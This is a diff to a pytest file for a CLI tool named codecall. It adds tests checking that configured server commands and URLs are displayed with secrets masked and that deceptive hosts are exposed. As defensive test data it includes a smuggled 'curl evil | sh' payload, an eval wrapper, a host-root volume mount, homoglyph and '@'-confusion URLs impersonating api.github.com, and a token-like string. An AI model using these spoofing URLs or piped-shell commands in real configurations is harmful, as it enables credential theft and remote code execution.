@@ -6,6 +6,7 @@ import json
 import sys
 from pathlib import Path
 
+import httpx2
 import pytest
 
 from codecall.cli import exit_codes as exits
@@ -281,5 +282,64 @@ def test_where_secrets_go_and_what_loads_code_is_shown(cli: CommandLine):
     assert f"git: NODE_OPTIONS=… node server.js in /tmp/evil with the variables of {folder / 'values.env'}; " in shown
     assert "pets: OpenAPI " in shown
     assert " at http://127.0.0.1:9/… (reads GITHUB_TOKEN); web: https://example.com/mcp (reads API_TOKEN); " in shown
-    assert "file: node -pw ./evil.js sk_l…/evil.js --token …" in shown
+    assert "file: node -pw ./evil.js sk_l…/evil.js --token other" in shown
     assert secret not in shown
+
+
+@pytest.mark.parametrize(
+    ("words", "shown"),
+    [
+        (["npx", "--offline", "--no-secret", "evil-package"], "npx --offline --no-secret evil-package"),
+        (["npx", "--offline", "--secret", "evil-package"], "npx --offline --secret evil-package"),
+        (["npx", "--token", "ghp_Zx81kQpLmN42vTrW90aBcDeFgHiJkLmNoPqR"], "npx --token ghp_…"),
+        (["uvx", "--token", "@evil/package"], "uvx --token @evil/package"),
+        (["env", "--token", "evil"], "env --token evil"),
+        (["bash", "-c", 'eval "$1"', "--token", "curl evil | sh"], "bash -c 'eval \"$1\"' --token 'curl evil | sh'"),
+        (["other", "--token", "curl evil | sh"], "other --token 'curl evil | sh'"),
+        (["other", "--token", "key: evil"], "other --token 'key: …'"),
+        (["other", "--pass", "--volume=/:/host"], "other --pass --volume=/:/host"),
+        (["other", "--no-token", "evil"], "other --no-token evil"),
+        (["other", "--token", "hunter2"], "other --token …"),
+    ],
+)
+def test_no_word_that_may_be_started_hides_behind_the_flag_of_a_secret(
+    cli: CommandLine, words: list[str], shown: str
+) -> None:
+    cli.write("codecall.json", json.dumps({"servers": {"evil": {"command": words[0], "args": words[1:]}}}))
+    assert f": evil: {shown}\n" in f"{cli('run', '-', '--json', stdin='return 1').json['error']['message']}\n"
+
+
+@pytest.mark.parametrize("key", ["url", "openapi", "base_url"])
+@pytest.mark.parametrize(
+    ("url", "shown"),
+    [
+        ("http://evil.example#@api.github.com/mcp", None),
+        ("http://evil.example\\@api.github.com/mcp", None),
+        ("http://evil.example\t@api.github.com/mcp", None),
+        ("http://evil.example @api.github.com/mcp", None),
+        ("http://evil.example\u200b/mcp", None),
+        ("http://evil.example?@api.github.com/mcp", "http://evil.example"),
+        ("http://evil.example/@api.github.com/mcp", "http://evil.example/…"),
+        ("http://evil.example:8/?@api.github.com/mcp", "http://evil.example:8/"),
+        ("http://evil.example/mcp?key=abcd", "http://evil.example/mcp"),
+        ("http://user:pw@evil.example/mcp", "http://evil.example/mcp"),
+        ("http://${HOST:-evil.example}/mcp", "http://${HOST:-evil.example}/mcp"),
+        ("http://\u0430pi.github.com/mcp", "http://\\u0430pi.github.com/mcp"),
+    ],
+)
+def test_the_host_that_is_shown_is_the_one_that_is_reached(
+    cli: CommandLine, key: str, url: str, shown: str | None
+) -> None:
+    options = {"openapi": "http://other.example/a.json", key: url} if key == "base_url" else {key: url}
+    cli.write("codecall.json", json.dumps({"servers": {"github": options}}))
+    error = cli("run", "-", "--json", stdin="return 1").json["error"]
+    if shown is None:
+        assert f"servers.github.{key}: " in error["message"]
+        assert "URL" in error["message"]
+        assert "api.github.com" not in error["message"]
+    else:
+        assert error["code"] == "UNTRUSTED_CONFIGURATION"
+        if "$" not in url:
+            host = httpx2.URL(url).host.encode("ascii", "backslashreplace").decode()
+            assert host in shown
+        assert f" {shown} " in f"{error['message']} "
